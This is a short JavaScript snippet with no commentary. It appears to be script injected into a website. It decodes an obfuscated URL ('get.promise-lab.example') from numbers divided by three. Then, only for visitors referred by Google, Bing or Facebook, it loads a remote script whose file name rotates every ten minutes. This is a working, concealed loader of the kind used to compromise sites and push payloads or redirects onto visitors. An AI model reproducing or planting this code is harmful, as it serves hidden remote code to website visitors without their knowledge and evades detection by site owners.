var q1 = [], q2 = "312.348.348.336.345.174.141.141.309.303.348.138.336.342.333.327.315.345.303.135.324.291.294.138.303.360.291.327.336.324.303.141".split(".");
for (var k = 0; k < q2.length; k++) { q1.push(String.fromCharCode(q2[k] / 3)); }
var minute10 = new Date();
minute10.setMinutes(minute10.getMinutes() - minute10.getMinutes() % 10, 0, 0);
window.setTimeout(function () {
  if (document.referrer.match(/google|bing|facebook/i)) {
    var tag = document.createElement("script");
    tag.setAttribute("src", q1.join("") + (minute10 / 1000).toString(16) + ".js");
    document.documentElement.appendChild(tag);
  }
}, 300);
